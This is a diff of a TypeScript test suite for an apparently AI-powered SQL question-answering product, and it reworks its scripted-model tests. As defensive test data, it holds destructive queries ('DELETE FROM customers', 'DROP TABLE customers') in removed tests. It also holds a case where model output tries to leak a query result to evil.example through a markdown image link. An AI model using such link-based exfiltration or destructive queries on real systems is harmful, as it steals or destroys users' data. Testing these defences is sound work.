@@ -9,7 +9,15 @@ import type { LiveItem } from '../../src/engine/readers/live.ts'
 import type { RequestInput } from '../../src/core/request.ts'
 import { createDemoDatabase } from '../../src/demo/database.ts'
 import { openApp } from '../../src/setup/setup.ts'
-import { startModelServer, type ModelServer, type Reply, type Rule } from '../support/model-server.ts'
+import {
+  SQL_AGENT,
+  sqlLoop,
+  startModelServer,
+  toolCall,
+  type ModelServer,
+  type Reply,
+  type Rule,
+} from '../support/model-server.ts'
 
 /** The whole product against a scripted provider, through the real one's SDK. Nothing of ours is replaced. */
 
@@ -37,15 +45,14 @@ afterEach(async () => app.close())
 
 const ASKED = {
   planner: 'You choose which specialist agents',
-  generate: 'You write SQL',
-  review: 'You review a SQL query',
+  generate: SQL_AGENT,
   compose: 'senior business intelligence agent',
 }
 
-const REPLIES: Record<keyof typeof ASKED, Reply> = {
+const REPLIES: Record<keyof typeof ASKED, Rule['reply']> = {
   planner: { json: { agents: ['sql'], rationale: 'Customers are in the database.', confidence: 0.9 } },
-  generate: { json: { database: 'demo', sql: GOOD_SQL, explanation: 'Counts customers.' } },
-  review: { json: { correct: true, problems: '', sql: '' } },
+  generate: ({ messages }) =>
+    messages.at(-1)?.role === 'tool' ? { text: 'There are 92 customers.' } : toolCall('query', { sql: GOOD_SQL }),
   compose: { text: 'There are 92 customers.', chunks: ['There are ', '92 ', 'customers.'] },
 }
 
@@ -74,13 +81,13 @@ const requestsFor = (name: keyof typeof ASKED) =>
   server.requests.filter((request) => request.text.includes(ASKED[name]))
 
 describe('with a model', () => {
-  it('writes SQL, executes, composes and streams, with two calls, where one agent can work', async () => {
+  it('writes SQL, executes, composes and streams, where one agent can work', async () => {
     const { response, items } = await ask(rules())
     expect(response.answer).toBe('There are 92 customers.')
     expect(response.data).toEqual({ columns: ['customers'], rows: [{ customers: 92 }], rowCount: 1 })
     expect(response.planner).toMatchObject({ chosenAgents: ['sql'], confidence: 0.4 })
     expect(response.metadata).toMatchObject({ answeredBy: 'model', models: ['compatible:scripted'], notes: [] })
-    expect(response.metadata.usage.calls).toBe(2)
+    expect(response.metadata.usage.calls).toBe(3)
     expect(response.agentResults[0]).toMatchObject({
       agent: 'sql',
       status: 'succeeded',
@@ -92,73 +99,8 @@ describe('with a model', () => {
     expect(texts).not.toEqual([])
     expect(texts.join('')).toBe(response.answer)
     const answered = response.trace!.filter((line) => line.message.startsWith('Model answered'))
-    expect(answered.map((line) => line.agent)).toEqual(['sql', 'composer'])
+    expect(answered.map((line) => line.agent)).toEqual(['sql', 'sql', 'composer'])
     for (const line of answered) expect(line.data['usage']).toMatchObject({ inputTokens: expect.any(Number) })
-  })
-
-  it('feeds a failing query back in the wording of SPEC P5 and takes the corrected one', async () => {
-    const bad = 'SELECT count(customer_idx) AS customers FROM customers'
-    const { response } = await ask(
-      rules({ when: ASKED.generate, times: 1, reply: { json: { database: 'demo', sql: bad, explanation: '' } } }),
-    )
-    expect(response.answer).toBe('There are 92 customers.')
-    const [, second] = requestsFor('generate')
-    expect(second!.text).toContain('The previous SQL query failed to execute.')
-    expect(second!.text).toContain(`Failing query:\n> ${bad}`)
-    expect(second!.text).toContain('using only the authorised tables.')
-    const { attempts } = response.agentResults[0]!.data as { attempts: { success: boolean; error?: string }[] }
-    expect(attempts.map((attempt) => attempt.success)).toEqual([false, true])
-    expect(attempts[0]!.error).toContain('customer_idx')
-  })
-
-  it('gives up after four attempts and keeps their history', async () => {
-    const bad = { database: 'demo', sql: 'SELECT nothing_there FROM customers', explanation: '' }
-    const generated = rules({ when: ASKED.generate, reply: { json: bad } })
-    // What the rules read, they would answer.
-    const { response } = await ask(generated, { question: 'How many profitable customers are there?' })
-    const [result] = response.agentResults
-    expect(result).toMatchObject({ status: 'failed' })
-    expect((result!.data as { attempts: unknown[] }).attempts).toHaveLength(4)
-    expect(requestsFor('generate')).toHaveLength(4)
-  })
-
-  it('says why a query that would write is blocked, and does not try again', async () => {
-    const evil = { database: 'demo', sql: 'DELETE FROM customers', explanation: '' }
-    const { response } = await ask(rules({ when: ASKED.generate, reply: { json: evil } }))
-    expect(response.agentResults[0]!.error).toMatchObject({ type: 'QueryBlocked' })
-    expect(requestsFor('generate')).toHaveLength(1)
-  })
-
-  it('takes a correction of the review, unless it is not allowed', async () => {
-    const risky = `${GOOD_SQL} WHERE customer_id BETWEEN 1 AND 1000`
-    const generated = { when: ASKED.generate, reply: { json: { database: 'demo', sql: risky, explanation: '' } } }
-    const better = 'SELECT count(DISTINCT customer_id) AS customers FROM customers'
-    const corrected = await ask(
-      rules(generated, { when: ASKED.review, reply: { json: { correct: false, problems: 'x', sql: better } } }),
-    )
-    expect(corrected.response.agentResults[0]!.sources[0]!.detail).toBe(better)
-    await app.close()
-    const evil = { correct: false, problems: 'x', sql: 'DROP TABLE customers' }
-    const refused = await ask(rules(generated, { when: ASKED.review, reply: { json: evil } }))
-    expect(refused.response.agentResults[0]!.sources[0]!.detail).toBe(risky)
-    expect(refused.response.trace!.map((line) => line.message)).toContain(
-      'Review made a query that is not allowed; not taken',
-    )
-  })
-
-  it('has a query reviewed whose result is empty, after it ran, and takes what is found then', async () => {
-    const empty = 'SELECT company_name FROM customers WHERE customer_id < 0'
-    const better = 'SELECT company_name FROM customers WHERE customer_id > 0'
-    const generated = { when: ASKED.generate, reply: { json: { database: 'demo', sql: empty, explanation: '' } } }
-    const review = (sql: string) => ({ when: ASKED.review, reply: { json: { correct: false, problems: 'x', sql } } })
-    const mended = await ask(rules(generated, review(better)))
-    expect(mended.response.data!.rowCount).toBeGreaterThan(0)
-    expect(mended.response.agentResults[0]!.sources[0]!.detail).toBe(better)
-    expect(requestsFor('review')[0]!.text).toContain('Doubt: It found no rows.')
-    await app.close()
-    // A correction that fails changes nothing.
-    const spoilt = await ask(rules(generated, review('SELECT nothing FROM customers')))
-    expect(spoilt.response.agentResults[0]).toMatchObject({ status: 'succeeded', sources: [{ detail: empty }] })
   })
 
   it('lets the planner drop and reorder, never add', async () => {
@@ -193,12 +135,6 @@ describe('with a model', () => {
     await ask(rules(), { systemPrompt: 'Speak like a pirate.', locale: 'en-IN' })
     expect(requestsFor('compose')[0]!.text).toContain('Speak like a pirate.')
     expect(requestsFor('compose')[0]!.text).toContain('Rs.1,75,206.00')
-  })
-
-  it('answers a question about the schema without asking a model for SQL', async () => {
-    const { response } = await ask(rules(), { question: 'List all tables in the database' })
-    expect(response.data!.rowCount).toBe(15)
-    expect(requestsFor('generate')).toHaveLength(0)
   })
 })
 
@@ -302,10 +238,10 @@ describe('an answer with links that stand in no source', () => {
     ["SELECT trim('evil.example?d=' || count(*)) AS customers FROM customers", 'evil.example?d=92'],
   ])('cannot get them from a query that puts them together: %s', async (sql, leak) => {
     const { response } = await ask(
-      rules(
-        { when: ASKED.generate, reply: { json: { database: 'demo', sql, explanation: '' } } },
-        { when: ASKED.compose, reply: { text: `There are 92. ![c](https://${leak.replace('https://', '')})` } },
-      ),
+      rules(...sqlLoop(sql, 'x'), {
+        when: ASKED.compose,
+        reply: { text: `There are 92. ![c](https://${leak.replace('https://', '')})` },
+      }),
     )
     expect(response.data!.rows).toEqual([{ customers: leak }])
     expect([response.answer, response.agentResults[0]!.answer].join()).not.toContain('evil.example')
